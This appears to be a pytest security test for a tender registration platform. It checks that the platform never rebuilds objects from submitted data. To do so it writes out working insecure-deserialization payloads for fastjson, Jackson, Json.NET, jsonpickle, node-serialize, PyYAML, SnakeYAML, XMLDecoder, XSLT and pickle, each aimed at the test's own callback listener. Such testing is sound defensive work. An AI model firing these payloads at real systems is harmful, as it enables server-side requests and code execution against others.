"""What is handed in is data, and no object is rebuilt of it (反序列化): whoever rebuilds one does what its sender says.

What is sent does one thing where it is rebuilt: it opens an address of ours. Nothing else shows, and nothing else convicts.
"""

import base64
import json
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any
from urllib.parse import quote

import pytest

from tenderproof.testing import Callbacks, Content, Ear, Identities, NetworkTrouble, PlatformTrouble, Public, Stories, clause

Form = Callable[[str], str]

_TYPED: dict[str, Callable[[str], Any]] = {
    "fastjson": lambda url: {"@type": "java.net.URL", "val": url, "x": {"@type": "java.net.URL", "val": url}},
    "fastjson, as a key": lambda url: {"x": {"@type": "java.util.HashMap", url: {"@type": "java.net.URL", "val": url}}},
    "Jackson": lambda url: ["org.springframework.context.support.ClassPathXmlApplicationContext", url],
    "Json.NET": lambda url: {"$type": "System.Windows.Media.Imaging.BitmapImage, PresentationCore", "UriSource": url},
    "jsonpickle": lambda url: {"py/reduce": [{"py/function": "urllib.request.urlopen"}, {"py/tuple": [url]}]},
    "node-serialize": lambda url: f"_$$ND_FUNC$$_function(){{require('http').get('{url}')}}()",
}
"""Names of types in JSON, as those libraries write them that rebuild what is named."""

_WRITTEN: dict[str, Form] = {
    "PyYAML": '!!python/object/apply:urllib.request.urlopen ["{}"]'.format,
    "SnakeYAML": '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{}"]]]]'.format,
    "XMLDecoder": (
        '<?xml version="1.0"?><java class="java.beans.XMLDecoder"><object class="java.net.URL"><string>{}</string>'
        '<void method="openStream"/></object></java>'
    ).format,
    "XSLT": (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{0}"?><r xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="{0}"/></r>'
    ).format,
    "pickle": lambda url: base64.b64encode(pickled(url)).decode(),
}
"""Texts of which such libraries rebuild what they name."""

_MEDIA_TYPES = {
    "PyYAML": ("application/yaml", "application/x-yaml"), "SnakeYAML": ("application/yaml", "text/yaml"),
    "XMLDecoder": ("application/xml",), "XSLT": ("application/xml", "text/xml"),
    "pickle": ("application/x-python-pickle", "application/octet-stream"),
}  # fmt: skip


def pickled(url: str) -> bytes:
    """A pickle (protocol 0) that opens an address and does nothing else."""
    return f"curllib.request\nurlopen\n(V{url}\ntR.".encode()


def attempts(stories: Stories, identities: Identities, public: Public, ear: Ear) -> Iterator[Callable[[], Any]]:
    """Each of them where a platform may read more than a text: in and beside fields, as a body of its own kind, in a cookie."""
    person, usual = stories.applicant(identities.fresh("bidder")), dict(stories.registration(identities.fresh("bidder")))
    for name, typed in _TYPED.items():
        beside = {**usual, "extra": typed(ear.address(f"{name}, a member that nobody asked for"))}
        inside = {**usual, "contact": typed(ear.address(f"{name}, in the place of a contact"))}
        alone = typed(ear.address(f"{name}, the whole body"))
        yield from (partial(public.register_as, "application/json", body(content)) for content in (beside, inside, alone))
    for name, form in _WRITTEN.items():
        yield partial(person.change_registration, {"address": form(ear.address(f"{name}, a text"))})
        cookie = quote(form(ear.address(f"{name}, a cookie")), safe="=+/")
        yield public.adding({"cookie": f"session={cookie}; rememberMe={cookie}; data={cookie}"}).platform
        for media_type in _MEDIA_TYPES[name]:
            text = form(ear.address(f"{name}, a body that says it is {media_type}")).encode()
            yield partial(public.register_as, media_type, base64.b64decode(text) if name == "pickle" else text)


def body(content: Any) -> bytes:
    """JSON."""
    return json.dumps(content, ensure_ascii=False).encode()


@clause("HN-3.2-10", "F-22", acquits=False)
@pytest.mark.waits
def test_no_object_is_rebuilt_of_what_is_handed_in(stories: Stories, identities: Identities, public: Public, callbacks: Callbacks) -> None:
    """A registration is taken as ever; objects that open an address of ours come as members, texts, bodies and cookies, and none does."""
    usual: Content = stories.registration(identities.fresh("bidder"))
    with callbacks.listening() as ear:
        for attempt in attempts(stories, identities, public, ear):
            try:
                attempt()
            except (PlatformTrouble, NetworkTrouble):  # how it answers to that is its own matter
                continue
        visitors = ear.heard()

    assert public.register(usual).accepted
    assert list(visitors) == [], "an object has been rebuilt of what somebody sent"
